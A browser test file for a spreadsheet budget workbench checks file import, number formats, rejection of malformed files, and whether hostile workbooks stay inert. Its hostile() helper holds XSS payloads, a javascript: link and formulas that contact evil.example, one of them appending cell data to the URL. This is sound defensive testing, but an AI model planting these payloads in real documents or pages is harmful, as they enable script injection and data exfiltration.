import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { zip, strToU8 } from 'fflate';
import { layOut } from '../../src/core/index';
import { readXlsx, writeXlsx } from '../../src/hosts/xlsx';
import { discloseCase, loadCase } from '../cases/load-case';
import { LibreOffice } from '../second-opinion/libreoffice';
import { Stage } from './open-pane';
import { KNOT_LIST } from '../cases/knot-list';
import { WorkbenchPage } from './open-workbench';

let stage: Stage;
let folder: string;
beforeAll(async () => {
  stage = await Stage.open();
  folder = mkdtempSync(join(tmpdir(), 'budget-workbench-'));
});
afterAll(async () => {
  await stage.close();
  rmSync(folder, { recursive: true, force: true });
});
afterEach(() => {
  expect(stage.strayRequests).toEqual([]);
  expect(stage.consoleErrors).toEqual([]);
});

async function openFile(bench: WorkbenchPage, path: string): Promise<void> {
  await bench.page.locator('#bar input[type=file]').setInputFiles(path);
}

const status = (bench: WorkbenchPage) => bench.page.locator('#bar [role=status]');

describe('files', () => {
  it('takes nothing into a workbook whose place another one is taking', async () => {
    const bench = await WorkbenchPage.open(stage);
    const seen = await bench.page.evaluateHandle(() => {
      const told: string[] = [];
      const tell = (): number =>
        told.push(['pane', 'sheets'].map((id) => document.getElementById(id)!.inert).join());
      new MutationObserver(tell).observe(document.body, { subtree: true, attributeFilter: ['inert'] });
      return told;
    });
    const lines = join(folder, 'lines.csv');
    writeFileSync(lines, KNOT_LIST);
    await openFile(bench, lines);
    await status(bench).getByText('已打开').waitFor();
    const told = await seen.jsonValue();
    expect([told[0], told.at(-1)]).toEqual(['true,true', 'false,false']);
    await bench.page.context().close();
  });

  /** A workbook that no refusal touches. */
  let untouched: WorkbenchPage;
  beforeAll(async () => {
    untouched = await WorkbenchPage.open(stage);
  });
  afterAll(() => untouched.page.context().close());

  it('opens one that LibreOffice has saved, checks it, and saves it whole', async () => {
    const office = new LibreOffice();
    const file = join(office.folder, 'kashi.xlsx');
    const plan = layOut(discloseCase(loadCase('kashi-2021')));
    writeFileSync(file, await writeXlsx(plan, 'native'));
    const saved = await office.recalculate(file);

    const bench = await WorkbenchPage.open(stage);
    await openFile(bench, saved);
    await status(bench).getByText('已打开').waitFor();
    await bench.check();
    await bench.page.getByText('没有错误').first().waitFor();
    const { path } = await bench.save('values');
    const read = await readXlsx(new Uint8Array(readFileSync(path)), 'saved.xlsx');
    const values = (of: typeof read): unknown[] =>
      of.sheets.map(({ name, rows }) => [
        name,
        rows.map((row) =>
          row
            .map((cell) => JSON.stringify(cell?.value ?? ''))
            .join('|')
            .replace(/(\|"")+$/, ''),
        ),
      ]);
    expect(values(read)).toEqual(values(await readXlsx(new Uint8Array(readFileSync(saved)), 'office.xlsx')));
    await bench.page.context().close();
    office.dispose();
  });

  it('shows the amounts of a list as money where its cells have no format, and leaves the formats that somebody chose', async () => {
    const path = join(folder, '没有格式.xlsx');
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('明细');
    const lines = readFileSync(loadCase('kashi-2021').lines, 'utf8').trim().split('\n');
    lines.forEach((line, row) =>
      sheet.addRow(
        line.split(',').map((text, at) => (row > 0 && at > 4 && text !== '' ? Number(text) : text)),
      ),
    );
    sheet.getCell('F3').numFmt = '0.0';
    writeFileSync(path, new Uint8Array(await workbook.xlsx.writeBuffer()));
    const bench = await WorkbenchPage.open(stage);
    await openFile(bench, path);
    await status(bench).getByText('已打开').waitFor();
    const saved = await bench.save('formulas');
    const read = await readXlsx(new Uint8Array(readFileSync(saved.path)), 'saved.xlsx');
    const cells = read.sheets[0]!.rows.slice(1, 3).map((row) => row[5]);
    expect(cells).toEqual([
      { value: 201784.1, numberFormat: '#,##0.00' },
      { value: sheet.getCell('F3').value, numberFormat: '0.0' },
    ]);
    await bench.page.context().close();
  });

  it('opens a list in .csv that is dropped on the grid', async () => {
    const bench = await WorkbenchPage.open(stage);
    const text = readFileSync(loadCase('kashi-2021').lines, 'utf8');
    const transfer = await bench.page.evaluateHandle((content) => {
      const data = new DataTransfer();
      data.items.add(new File([content], '明细.csv', { type: 'text/csv' }));
      return data;
    }, text);
    await bench.page.dispatchEvent('#grid canvas', 'drop', { dataTransfer: transfer });
    await status(bench).getByText('已打开 明细.csv').waitFor();
    await bench.page.locator('#grid').getByText('明细', { exact: true }).waitFor();
    await bench.page.context().close();
  });

  it.each<[string, string, () => Promise<Uint8Array> | Uint8Array, string]>([
    ['a workbook of a million rows', 'long.xlsx', millionRows, '为安全起见没有读取'],
    ['something that is no workbook', 'picture.xlsx', () => strToU8('not a zip'), '不是 .xlsx 工作簿'],
    [
      'an old workbook',
      'old.xls',
      () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      '旧版工作簿',
    ],
    ['an empty file', 'empty.xlsx', () => new Uint8Array(0), '空的'],
  ])('says what is wrong with %s, and leaves the workbook alone', async (_, name, make, told) => {
    const path = join(folder, name);
    writeFileSync(path, await make());
    await openFile(untouched, path);
    await status(untouched).getByText(told).waitFor();
    await untouched.page.locator('#grid').getByText('工作表1', { exact: true }).waitFor();
  });

  it('shows what is hostile inert: no script runs, no request leaves', async () => {
    const bench = await WorkbenchPage.open(stage);
    const path = join(folder, 'hostile.xlsx');
    writeFileSync(path, await hostile());
    await openFile(bench, path);
    await status(bench).getByText('已打开').waitFor();
    await bench.page.locator('#grid').getByText('<img src=x onerror=alert(1)>', { exact: true }).waitFor();
    for (const cell of ['A1', 'A2', 'A3', 'A4', 'A5']) {
      await bench.goTo(cell);
    }
    // A note is shown where the pointer is.
    await bench.page.mouse.move(70, 175);
    await bench.page.waitForTimeout(1000);
    expect(await bench.page.evaluate(() => (window as { hacked?: boolean }).hacked)).toBeUndefined();
    expect(await bench.page.locator('#grid script, #grid img[src=x], #grid iframe').count()).toBe(0);
    await bench.page.context().close();
  });
});

/** Parts of a workbook around the xml of its only sheet. */
function workbook(sheet: Uint8Array): Promise<Uint8Array> {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const rels = 'http://schemas.openxmlformats.org/package/2006/relationships';
  const parts = {
    '[Content_Types].xml': strToU8(
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      `<Relationships xmlns="${rels}"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships xmlns="${rels}"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': sheet,
  };
  // A hundred megabytes are packed in a thread of their own: among jest's own objects it takes four times as long.
  return new Promise((resolve, reject) => {
    zip(parts, { level: 1 }, (error, packed) => (error ? reject(error) : resolve(packed)));
  });
}

function millionRows(): Promise<Uint8Array> {
  const rows = Array.from(
    { length: 1_040_000 },
    (_, at) =>
      `<row r="${at + 1}"><c r="A${at + 1}"><v>1</v></c><c r="B${at + 1}"><v>2</v></c><c r="C${at + 1}"><v>3</v></c></row>`,
  );
  return workbook(strToU8(`<worksheet><sheetData>${rows.join('')}</sheetData></worksheet>`));
}

async function hostile(): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('<img src=x onerror=alert(1)>');
  sheet.getCell('A1').value = '<script>window.hacked=true</script>';
  sheet.getCell('A1').note = '<img src="http://evil.example/x.png" onerror="window.hacked=true"><b>note</b>';
  sheet.getCell('A2').value = { formula: 'WEBSERVICE("http://evil.example/"&A1)', result: 'x' };
  sheet.getCell('A3').value = { formula: 'HYPERLINK("javascript:window.hacked=true","x")', result: 'x' };
  sheet.getCell('A4').value = { text: 'link', hyperlink: 'http://evil.example/' };
  sheet.getCell('A5').value = { formula: 'IMAGE("http://evil.example/x.png")', result: 'x' };
  return new Uint8Array(await book.xlsx.writeBuffer());
}
